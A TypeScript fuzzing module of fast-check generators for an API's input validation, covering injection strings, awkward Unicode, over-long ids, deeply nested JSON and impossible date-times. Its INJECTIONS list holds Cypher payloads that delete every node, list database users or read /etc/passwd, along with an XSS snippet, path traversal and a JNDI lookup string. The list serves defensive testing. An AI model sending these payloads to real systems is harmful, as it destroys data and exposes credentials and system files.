/**
 * Hostile strings for fuzzing: Cypher and other injection attempts, awkward Unicode, and
 * generators for strings past the service's size limits.
 */
import fc from 'fast-check';

/** Text that would change a query if anything spliced input into Cypher (it must not). */
export const INJECTIONS = [
  "' OR 1=1 //",
  '") MATCH (n) DETACH DELETE n //',
  "x'}) DETACH DELETE n RETURN 1 //",
  "'; CALL apoc.cypher.runWrite('MATCH (n) DETACH DELETE n', {}) //",
  'MATCH (n) SET n.id = "pwned" RETURN n',
  '$rows',
  '`n`',
  '{id: $id}',
  'CALL dbms.security.listUsers()',
  'LOAD CSV FROM "file:///etc/passwd" AS line RETURN line',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '${jndi:ldap://example.invalid/a}',
  '%00%27',
  '\\u0027 OR \\u0027\\u0027=\\u0027',
] as const;

/** Unicode that trips naive code: NUL, lone surrogates, bidi overrides, zero-width, combining marks, astral. */
export const AWKWARD_UNICODE = [
  '\u0000',
  'a\u0000b',
  '\uD800',
  '\uDFFF\uD800',
  '\u202Eevil\u202C',
  '\u200B\u200C\u200D\uFEFF',
  'e\u0301\u0301\u0301\u0301',
  '𝕳𝖊𝖑𝖑𝖔 🧬🦠💉',
  'ｐａｔｉｅｎｔ－０００１',
  '患者-０１２３',
  'مريض',
  '\u000b\u000c\r\n\t',
  '\u2028\u2029',
] as const;

/** Any string a client might send that is still acceptable free text (never empty). */
export const nastyText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.constantFrom(...AWKWARD_UNICODE),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }),
);

/** Strings that can never be an id (the id grammar is `[A-Za-z0-9][A-Za-z0-9._:/@+=-]*`, at most 256). */
export const invalidId: fc.Arbitrary<string> = fc.oneof(
  fc.constant(''),
  fc.constantFrom(...INJECTIONS),
  fc.constantFrom(...AWKWARD_UNICODE),
  fc.constantFrom(' leading-space', 'trailing-space ', 'in side', '-starts-with-dash', '.dot', 'a\nb', 'ä-umlaut', 'x;y', 'x"y', "x'y"),
  fc.integer({ min: 257, max: 4_000 }).map((n) => 'a'.repeat(n)),
);

/**
 * A string of `min` to `max` characters, built cheaply (huge random strings would cost the
 * generator most of the run). Every unit is one code point, so the length holds whether a limit
 * counts code points or UTF-16 units.
 */
export function longString(min: number, max: number): fc.Arbitrary<string> {
  return fc.tuple(fc.integer({ min, max }), fc.constantFrom('x', 'é', '🧬', "'")).map(([length, unit]) => unit.repeat(length));
}

/** JSON text to splice into a request body as is: nesting too deep for the client's own JSON.stringify. */
export class RawJson {
  constructor(readonly text: string) {}
}

/** `{ "a": { "a": ... } }` (or arrays) nested `depth` levels deep, as raw JSON text. */
export function nested(depth: number, useArrays: boolean): RawJson {
  const [open, close] = useArrays ? ['[', ']'] : ['{"a":', '}'];
  return new RawJson(`{"a":${open.repeat(depth - 1)}1${close.repeat(depth - 1)}}`);
}

/** JSON.stringify that splices RawJson values in as their text. */
export function toJson(value: unknown): string {
  const raws: string[] = [];
  const text = JSON.stringify(value, (_key, v: unknown) => (v instanceof RawJson ? `\u0000raw${raws.push(v.text) - 1}\u0000` : v));
  return text.replace(/"\\u0000raw(\d+)\\u0000"/g, (_whole, i: string) => raws[Number(i)]!);
}

const pad = (n: number, width = 2) => String(n).padStart(width, '0');
const daysIn = (year: number, month: number) => new Date(Date.UTC(year, month, 0)).getUTCDate();

/**
 * Date-times of the right shape that are not real or not storable: a day past the month's end
 * (leap years included), month 00 or 13+, hour 24+, minute or second 60+, an offset past
 * ±18:00 or with 60+ minutes. Date.parse accepts several of these (it rolls them over).
 */
export const impossibleDateTime: fc.Arbitrary<string> = fc
  .record({
    year: fc.integer({ min: 1, max: 9999 }),
    month: fc.integer({ min: 1, max: 12 }),
    day: fc.integer({ min: 1, max: 28 }),
    hour: fc.integer({ min: 0, max: 23 }),
    minute: fc.integer({ min: 0, max: 59 }),
    second: fc.integer({ min: 0, max: 59 }),
    offset: fc.constantFrom('Z', '+00:00', '-05:00', '+05:30', '+18:00'),
    defect: fc.constantFrom('day', 'month', 'hour', 'minute', 'second', 'offsetHours', 'offsetMinutes'),
    wrong: fc.integer({ min: 0, max: 99 }),
  })
  .map(({ year, month, day, hour, minute, second, offset, defect, wrong }) => {
    const parts: Record<string, string> = { month: pad(month), day: pad(day), hour: pad(hour), minute: pad(minute), second: pad(second), offset };
    if (defect === 'day') parts.day = pad(daysIn(year, month) + 1 + (wrong % (99 - daysIn(year, month))));
    if (defect === 'month') parts.month = pad(wrong % 2 === 0 ? 0 : 13 + (wrong % 87));
    if (defect === 'hour') parts.hour = pad(24 + (wrong % 76));
    if (defect === 'minute') parts.minute = pad(60 + (wrong % 40));
    if (defect === 'second') parts.second = pad(60 + (wrong % 40));
    if (defect === 'offsetHours') parts.offset = `${wrong % 2 ? '+' : '-'}${pad(18 + (wrong % 82))}:${pad(wrong % 18 === 0 ? 1 : wrong % 60 || 1)}`;
    if (defect === 'offsetMinutes') parts.offset = `+${pad(wrong % 18)}:${pad(60 + (wrong % 40))}`;
    return `${pad(year, 4)}-${parts.month}-${parts.day}T${parts.hour}:${parts.minute}:${parts.second}${parts.offset}`;
  });

/** Date-times the API must refuse: wrong shape, impossible dates, local times, other calendars' digits. */
export const invalidDateTime: fc.Arbitrary<unknown> = fc.oneof(
  impossibleDateTime,
  fc.constantFrom('2026-02-30T00:00:00Z', '2026-01-01T24:00:00Z', '2026-01-01T00:00:00+18:30', '2025-02-29T00:00:00Z', '2026-01-01T23:59:60Z'),
  fc.constantFrom(
    '',
    'yesterday',
    'now',
    '2026-03-04',
    '2026-03-04 10:00:00',
    '2026-03-04T10:00:00',
    '2026-13-45T10:00:00Z',
    '2026-02-30T25:61:61Z',
    '２０２６-０３-０４T10:00:00Z',
    '2026-03-04T10:00:00.1234567890Z',
    '+002026-03-04T10:00:00Z',
    'T10:00:00Z',
    "2026-03-04T10:00:00Z' OR 1=1 //",
  ),
  fc.integer(),
  fc.boolean(),
  fc.constant({ $date: '2026-03-04T10:00:00Z' }),
  fc.string({ unit: 'grapheme', maxLength: 30 }).filter((s) => Number.isNaN(Date.parse(s)) || !/T/.test(s)),
);
